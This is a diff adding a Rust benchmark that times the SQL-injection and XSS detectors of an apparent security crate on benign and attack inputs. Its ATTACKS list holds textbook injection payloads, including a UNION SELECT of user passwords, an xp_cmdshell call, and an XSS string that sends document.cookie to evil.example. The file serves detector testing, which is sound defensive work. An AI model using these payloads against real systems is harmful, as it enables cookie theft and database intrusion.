@@ -1,1 +1,102 @@
-fn main() {}
+//! Throughput of `detect_sqli` / `detect_xss` in MB/s, on typical argument values (benign
+//! and attack) and on a few long adversarial runs. A plain `harness = false` bench:
+//!
+//! ```text
+//! cargo bench -p palisade-injection --bench detect
+//! ```
+//!
+//! Each set is run for about half a second per detector; the figure is input bytes over
+//! wall time of the fastest of three rounds (the least disturbed by other load).
+
+use std::hint::black_box;
+use std::time::{Duration, Instant};
+
+use palisade_injection::{detect_sqli, detect_xss};
+
+/// Values an application commonly receives in query strings, forms and JSON.
+const BENIGN: &[&str] = &[
+    "42",
+    "john.doe@example.com",
+    "en-US",
+    "2024-11-30T09:15:00Z",
+    "red running shoes size 42",
+    "O'Reilly Media",
+    "Tom & Jerry's \"best\" episodes",
+    "https://www.example.com/products/view?id=1234&ref=home",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
+    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
+    "Hi team, please find the quarterly report attached. Let me know if you have questions or comments before Friday.",
+    "<p>Thanks for the <b>quick</b> reply! See <a href=\"https://example.com/faq\">the FAQ</a>.</p>",
+    "{\"cart\":[{\"sku\":\"A-100\",\"qty\":2},{\"sku\":\"B-200\",\"qty\":1}]}",
+    "select your preferred delivery date or pick up in store",
+];
+
+/// Typical injection attempts.
+const ATTACKS: &[&str] = &[
+    "1' or '1'='1",
+    "-1 UNION SELECT username,password FROM users--",
+    "1 AND SLEEP(5)",
+    "'; exec master..xp_cmdshell 'dir'--",
+    "1' AND extractvalue(1,concat(0x7e,version()))-- -",
+    "<script>alert(document.cookie)</script>",
+    "<img src=x onerror=alert(1)>",
+    "\"><svg/onload=fetch('//evil.example/'+document.cookie)>",
+    "<a href=\"javascript:alert(1)\">click</a>",
+];
+
+fn repeat(unit: &str, len: usize) -> String {
+    unit.repeat(len / unit.len() + 1)[..len].to_string()
+}
+
+fn mb_per_s(values: &[Vec<u8>], f: &dyn Fn(&[u8]) -> bool) -> f64 {
+    let bytes: usize = values.iter().map(Vec::len).sum();
+    let mut best = Duration::MAX;
+    for _ in 0..3 {
+        let start = Instant::now();
+        let mut rounds = 0u32;
+        while start.elapsed() < Duration::from_millis(150) || rounds == 0 {
+            for v in values {
+                black_box(f(black_box(v)));
+            }
+            rounds += 1;
+        }
+        best = best.min(start.elapsed() / rounds);
+    }
+    bytes as f64 / best.as_secs_f64() / 1e6
+}
+
+fn report(name: &str, values: Vec<Vec<u8>>) {
+    let sqli = mb_per_s(&values, &|v| detect_sqli(v).is_some());
+    let xss = mb_per_s(&values, &|v| detect_xss(v));
+    let avg = values.iter().map(Vec::len).sum::<usize>() / values.len().max(1);
+    println!(
+        "{name:<28} {:>4} values, avg {avg:>6} B: detect_sqli {sqli:>8.1} MB/s  detect_xss {xss:>8.1} MB/s",
+        values.len()
+    );
+}
+
+fn main() {
+    // `cargo test --benches` runs bench binaries with `--bench` absent; keep that quick.
+    if !std::env::args().any(|a| a == "--bench") {
+        report("smoke", vec![b"1' or '1'='1".to_vec()]);
+        return;
+    }
+    let bytes = |set: &[&str]| {
+        set.iter()
+            .map(|s| s.as_bytes().to_vec())
+            .collect::<Vec<_>>()
+    };
+    report("benign argument values", bytes(BENIGN));
+    report("attack argument values", bytes(ATTACKS));
+    report(
+        "benign 4 KiB prose",
+        vec![repeat("The quick brown fox jumps over the lazy dog. ", 4096).into_bytes()],
+    );
+    for (name, unit) in [
+        ("adversarial 64 KiB '=' run", "="),
+        ("adversarial 64 KiB '<a>' run", "<a>"),
+        ("adversarial 64 KiB \\' run", "\\'"),
+    ] {
+        report(name, vec![repeat(unit, 64 * 1024).into_bytes()]);
+    }
+}
